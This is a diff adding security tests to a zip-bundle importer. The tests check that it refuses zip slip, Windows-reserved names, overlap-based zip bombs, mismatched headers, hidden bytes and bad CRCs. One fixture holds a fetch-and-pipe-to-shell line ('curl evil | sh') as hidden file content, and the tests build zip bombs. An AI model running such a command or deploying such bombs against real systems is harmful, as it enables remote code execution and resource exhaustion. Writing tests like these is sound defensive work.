@@ -4,10 +4,18 @@ import { existsSync } from 'node:fs';
 import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { createHash } from 'node:crypto';
+import { Readable } from 'node:stream';
+import { deflateRawSync } from 'node:zlib';
+import yazl from 'yazl';
+import { safeName } from '../vault/vault-store.ts';
 import type { BundleRule } from './bundle-error.ts';
+import { sourceEntryPath } from './bundle-paths.ts';
 import { importBundle } from './import-bundle.ts';
+import type { Manifest } from './manifest.ts';
 import type { ImportLimits } from './validate-bundle.ts';
-import { buildZip, unicodePathExtra, validEntries, withManifest, type RawEntry } from './test-zip.ts';
+import { buildZip, unicodePathExtra, validEntries, withManifest, type RawEntry, type RawLayout } from './test-zip.ts';
+import { quotedOverlapBomb } from './test-zip-bomb.ts';
 
 let base: string;
 let dataDir: string;
@@ -51,12 +59,55 @@ const zipOf = (extra: RawEntry[] = [], change: (m: ReturnType<typeof good>['mani
   return buildZip(withManifest([...entries, ...extra], change(manifest)));
 };
 
+const folder = safeName('jido-code:s-1');
+type Listed = Omit<RawEntry, 'name'> & { originalPath: string };
+
+/** A correct bundle that also holds these sources, each listed in the manifest (size, SHA-256) under its original path. */
+function withListed(sources: Listed[]): { entries: RawEntry[]; manifest: Manifest } {
+  const { entries, manifest } = good();
+  const extra = sources.map(({ originalPath, ...e }) => ({ ...e, name: sourceEntryPath(folder, originalPath) }));
+  const template = manifest.files[1] as Manifest['files'][number];
+  const files = extra.map((e, i) => ({ ...template, path: e.name, size: e.data.length, sha256: createHash('sha256').update(e.data).digest('hex'), role: 'artifact' as const, originalPath: sources[i]?.originalPath ?? null }));
+  return { entries: [...entries, ...extra], manifest: { ...manifest, files: [...manifest.files, ...files] } };
+}
+
+const zipListing = (sources: Listed[], layout?: RawLayout) => {
+  const { entries, manifest } = withListed(sources);
+  return buildZip(withManifest(entries, manifest), layout);
+};
+
+async function expectImported(zip: Buffer): Promise<void> {
+  const file = join(base, 'good.zip');
+  await writeFile(file, zip);
+  const report = await importBundle(file, { dataDir });
+  expect(report.imported.map((s) => s.key)).toEqual(['jido-code:s-1']);
+}
+
 describe('a correct bundle built the same way', () => {
   it('imports, so every refusal below is down to the one thing each test breaks', async () => {
-    const file = join(base, 'good.zip');
-    await writeFile(file, zipOf());
-    const report = await importBundle(file, { dataDir });
-    expect(report.imported.map((s) => s.key)).toEqual(['jido-code:s-1']);
+    await expectImported(zipOf());
+  });
+
+  it('imports with a streamed entry (bit 3: zeros in the local header, the values in a data descriptor, as yazl writes)', async () => {
+    await expectImported(zipListing([{ originalPath: '/home/dev/streamed.jsonl', data: Buffer.from('{"a":1}\n'.repeat(500)), method: 8, descriptor: {} }]));
+  });
+
+  it('imports when yazl writes it in ZIP64 form (as past 4 GiB): ZIP64 extra fields, 8-byte data descriptor sizes, ZIP64 end record', async () => {
+    const { entries, manifest } = good();
+    const zip = new yazl.ZipFile();
+    const [json, source, last] = withManifest(entries, manifest) as [RawEntry, RawEntry, RawEntry];
+    zip.addBuffer(json.data, json.name, { forceZip64Format: true });
+    zip.addReadStream(Readable.from([source.data]), source.name, { forceZip64Format: true });
+    zip.addBuffer(last.data, last.name, { forceZip64Format: true, compress: false });
+    zip.end({ forceZip64Format: true, comment: '' });
+    const chunks: Buffer[] = [];
+    for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
+    await expectImported(Buffer.concat(chunks));
+  });
+
+  it('imports names that only look like the ones Windows reserves', async () => {
+    const names = ['auxiliary.json', 'con-notes.txt', 'COM10', 'nul_', 'lpt.txt', '.console', 'a.b.c', 'x(1) [2] {3} & #4'];
+    await expectImported(zipListing(names.map((n) => ({ originalPath: `/home/dev/${n}`, data: Buffer.from(n) }))));
   });
 });
 
@@ -80,6 +131,46 @@ describe('zip slip, in every spelling', () => {
     const extra = unicodePathExtra('sessions/innocent.txt', '../evil.txt');
     await expectRefused(zipOf([{ name: 'sessions/innocent.txt', data: Buffer.from('x'), extra }]), 'unsafe-path', '../evil.txt');
   });
+});
+
+describe('names not every platform can create, refused on every platform', () => {
+  it.each([
+    ['a reserved device name', '/home/dev/CON', 'CON'],
+    ['a reserved name with an extension', '/home/dev/aux.json', 'aux.json'],
+    ['a reserved name in another case', '/home/dev/NUL.txt', 'NUL.txt'],
+    ['a numbered port', '/home/dev/com1.log', 'com1.log'],
+    ['a printer port with two extensions', '/home/dev/Lpt9.tar.gz', 'Lpt9.tar.gz'],
+    ['a reserved folder', '/home/dev/prn/notes.md', 'prn'],
+    ['a colon (an NTFS alternate data stream)', '/home/dev/a:b', 'a:b'],
+    ['a less-than sign', '/home/dev/x<y.txt', 'x<y.txt'],
+    ['a greater-than sign', '/home/dev/x>y.txt', 'x>y.txt'],
+    ['a double quote', '/home/dev/say"hi".txt', 'say"hi".txt'],
+    ['a pipe', '/home/dev/a|b', 'a|b'],
+    ['a question mark', '/home/dev/what?.md', 'what?.md'],
+    ['an asterisk', '/home/dev/star*.md', 'star*.md'],
+    ['a trailing dot', '/home/dev/notes.', 'notes.'],
+    ['a trailing space', '/home/dev/notes ', 'notes '],
+    ['a folder with a trailing dot', '/home/dev/dir./x.txt', 'dir.'],
+  ])('a name Windows refuses or reserves: %s', async (_label, originalPath, segment) => {
+    const name = sourceEntryPath(folder, originalPath);
+    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'windows-unsafe-name', name);
+    expect(message).toContain(`"${segment}"`);
+  });
+
+  it('folders nested deeper than 32 levels', async () => {
+    const originalPath = `/home/${Array.from({ length: 40 }, (_, i) => `d${i}`).join('/')}/x.txt`;
+    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'path-too-deep', sourceEntryPath(folder, originalPath));
+    expect(message).toContain('at most 32');
+  });
+
+  it.each([
+    ['a file name longer than 255 bytes', `/home/dev/${'n'.repeat(256)}.txt`, 'longer than 255 bytes'],
+    ['a path longer than 1024 characters', `/home/${Array.from({ length: 25 }, (_, i) => `${i}`.padEnd(50, 'x')).join('/')}.txt`, 'longer than 1024 characters'],
+  ])('%s', async (_label, originalPath, why) => {
+    const message = await expectRefused(zipListing([{ originalPath, data: Buffer.from('x') }]), 'path-too-long', sourceEntryPath(folder, originalPath));
+    expect(message).toContain(why);
+  });
+
 });
 
 describe('links, duplicates, encryption', () => {
@@ -192,5 +283,99 @@ describe('broken or dishonest archives', () => {
       good().entries[1]?.name ?? '',
     );
     expect(message).toContain('source/<its original path>');
+  });
+});
+
+describe('entries that share bytes (zip bombs by overlap)', () => {
+  it('two central directory records pointing at the same local header', async () => {
+    const data = Buffer.from('{"shared":true}\n');
+    const { entries, manifest } = withListed([{ originalPath: '/home/dev/a.json', data }, { originalPath: '/home/dev/b.json', data, sharesLocalOf: 2 }]);
+    const message = await expectRefused(buildZip(withManifest(entries, manifest)), 'overlapping-entries', sourceEntryPath(folder, '/home/dev/b.json'));
+    expect(message).toContain(sourceEntryPath(folder, '/home/dev/a.json'));
+  });
+
+  it('the "better zip bomb": each entry\'s data runs on into the next entry\'s, with true sizes and CRCs', async () => {
+    const paths = Array.from({ length: 100 }, (_, i) => `/home/dev/bomb/${i}.bin`);
+    const bomb = quotedOverlapBomb(paths.map((p) => sourceEntryPath(folder, p)), Buffer.alloc(512 * 1024));
+    const { entries, manifest } = withListed(bomb.map(({ name: _name, ...e }, i) => ({ ...e, originalPath: paths[i] as string })));
+    const zip = buildZip(withManifest(entries, manifest).map((e) => (e.name === 'manifest.json' ? { ...e, method: 8 } : e)));
+    // Past the 1000:1 the ratio rule allows, though no entry of it is over that rule's limit.
+    const expands = bomb.reduce((sum, e) => sum + e.data.length, 0);
+    expect(expands / zip.length).toBeGreaterThan(1000);
+    const message = await expectRefused(zip, 'overlapping-entries', sourceEntryPath(folder, paths[1] as string));
+    expect(message).toContain(sourceEntryPath(folder, paths[0] as string));
+  });
+
+  it('many small entries that together expand past the ratio limit, each under the size it is checked at', async () => {
+    const zeros = Array.from({ length: 8 }, (_, i) => ({ originalPath: `/home/dev/zeros${i}.bin`, data: Buffer.alloc(1024 * 1024), method: 8 }));
+    const message = await expectRefused(zipListing(zeros), 'compression-ratio', null, { maxRatio: 100 });
+    expect(message).toMatch(/the whole bundle expands \d+:1/);
+  });
+});
+
+describe('local headers that disagree with the central directory', () => {
+  const source = good().entries[1] as RawEntry;
+  it.each([
+    ['name', { local: { name: 'evil.sh' } }, 'name'],
+    ['compression method', { local: { method: 8 } }, 'compression method'],
+    ['flags', { local: { flags: 0x800 | 0x2 } }, 'flags'],
+    ['CRC-32', { local: { crc: 0x1234 } }, 'CRC-32'],
+    ['compressed size', { local: { compressedSize: 3 } }, 'compressed size'],
+    ['uncompressed size', { local: { uncompressedSize: 3 } }, 'uncompressed size'],
+    ['data descriptor CRC-32', { descriptor: { crc: 0x1234 } }, 'data descriptor'],
+    ['data descriptor size', { descriptor: { uncompressedSize: 3 } }, 'data descriptor'],
+  ] as Array<[string, Partial<RawEntry>, string]>)('%s', async (_label, lie, field) => {
+    const { entries, manifest } = good();
+    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'header-mismatch', source.name);
+    expect(message).toContain(field);
+  });
+});
+
+describe('bytes the end record or the central directory hide', () => {
+  const hidden: Listed = { originalPath: '/home/dev/hidden.sh', data: Buffer.from('curl evil | sh\n') };
+  it.each([
+    ['the end record counts fewer entries than the central directory holds', { endCount: 3 }, 'counts 3 entries'],
+    ['a local entry the central directory leaves out', { unlisted: [3] }, 'belong to no entry'],
+    ['data before the first entry', { prepend: Buffer.alloc(64, 0x90) }, 'belong to no entry'],
+    ['data between two entries', { after: { index: 0, bytes: Buffer.from('PK\x03\x04 hidden') } }, 'belong to no entry'],
+    ['data between the central directory and the end record', { beforeEnd: Buffer.from('hidden') }, 'central directory'],
+  ] as Array<[string, RawLayout, string]>)('%s', async (_label, layout, why) => {
+    const { entries, manifest } = withListed([hidden]);
+    // Hidden by the end record or the central directory, the entry is written last and listed nowhere.
+    const hiddenLast = [...withManifest(entries.slice(0, 2), good().manifest), entries[2] as RawEntry];
+    const zip = layout.endCount !== undefined || layout.unlisted ? buildZip(hiddenLast, layout) : buildZip(withManifest(entries, manifest), layout);
+    const message = await expectRefused(zip, 'hidden-data', null);
+    expect(message).toContain(why);
+  });
+
+  it('bytes inside an entry after its deflate stream ends', async () => {
+    const { entries, manifest } = good();
+    const source = entries[1] as RawEntry;
+    const body = Buffer.concat([deflateRawSync(source.data), Buffer.from('PK\x03\x04 a second archive hides here')]);
+    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, method: 8, body }], manifest)), 'hidden-data', source.name);
+    expect(message).toContain('deflate data ends');
+  });
+
+  it('a folder entry that carries data', async () => {
+    await expectRefused(zipOf([{ name: 'sessions/x/', data: Buffer.from('hidden') }]), 'hidden-data', 'sessions/x/');
+  });
+});
+
+describe('wrong CRC-32', () => {
+  it.each([
+    ['a stored source', { crc: 0xdeadbeef }],
+    ['a deflated source', { crc: 0xdeadbeef, method: 8 }],
+    ['a streamed source (the CRC in its data descriptor)', { crc: 0xdeadbeef, method: 8, descriptor: {} }],
+  ] as Array<[string, Partial<RawEntry>]>)('%s', async (_label, lie) => {
+    const { entries, manifest } = good();
+    const source = entries[1] as RawEntry;
+    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'crc-mismatch', source.name);
+    expect(message).toContain('deadbeef');
+  });
+
+  it('in the manifest itself', async () => {
+    const { entries, manifest } = good();
+    const [manifestEntry] = withManifest([], manifest) as [RawEntry];
+    await expectRefused(buildZip([...entries, { ...manifestEntry, crc: 0xdeadbeef }]), 'crc-mismatch', 'manifest.json');
   });
 });
